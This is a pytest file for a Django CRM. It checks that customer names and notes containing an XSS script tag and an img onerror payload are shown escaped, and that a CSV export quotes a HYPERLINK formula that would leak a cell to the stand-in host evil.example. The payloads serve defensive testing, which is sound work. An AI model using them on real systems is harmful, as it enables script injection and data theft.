"""Hostile text in a customer's name and notes never runs: the workspace shows it
escaped on the list, the record page and the customer 360, and an exported list
quotes a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib import admin
from django.test import Client
from django.urls import reverse

from keel.core.export_formats import CSV
from keel.parties.models import Party
from keel.sales.tests.factories import customer
from keel.users.roles import Role

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('name')</script>"
IMAGE = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile(company, users):
    """Given a customer named with a script tag whose notes hold an image with onerror."""
    return customer(company, f"Acme {SCRIPT}", notes=f"Met at the fair {IMAGE}")


@pytest.fixture
def admin_client(users):
    client = Client()
    client.force_login(users[Role.ADMINISTRATOR])
    return client


@pytest.mark.parametrize(
    "page",
    ["list", "record", "customer 360"],
)
def test_a_script_in_a_name_or_notes_shows_as_text_on_every_page(hostile, admin_client, page):
    """When the administrator opens the parties list, the party's page and its 360
    Then the payloads appear escaped, and never as live markup."""
    # When
    url = {
        "list": reverse("admin:parties_party_changelist"),
        "record": reverse("admin:parties_party_change", args=[hostile.pk]),
        "customer 360": reverse("analytics:customer_360", args=[hostile.pk]),
    }[page]
    html = admin_client.get(url).content.decode()

    # Then
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in html
    assert IMAGE not in html
    if page == "record":  # the notes are on the record page
        assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html


def test_an_exported_name_that_starts_like_a_formula_is_quoted(company, admin_client):
    """Given a customer whose name is a spreadsheet formula that would leak a cell
    When the administrator exports the parties list as CSV
    Then that cell starts with a quote (a spreadsheet shows it as text), and the
    rest of the name is kept exactly."""
    customer(company, FORMULA)

    # When
    url = reverse("admin:parties_party_export")
    form = admin_client.get(url).context["form"]
    fields = {
        name: "on" for name in form.fields if name not in {"format", "resource", "export_items"}
    }
    csv_choice = admin.site._registry[Party].get_export_formats().index(CSV)
    response = admin_client.post(url, {"format": csv_choice, **fields})

    # Then
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert names == ["'" + FORMULA]
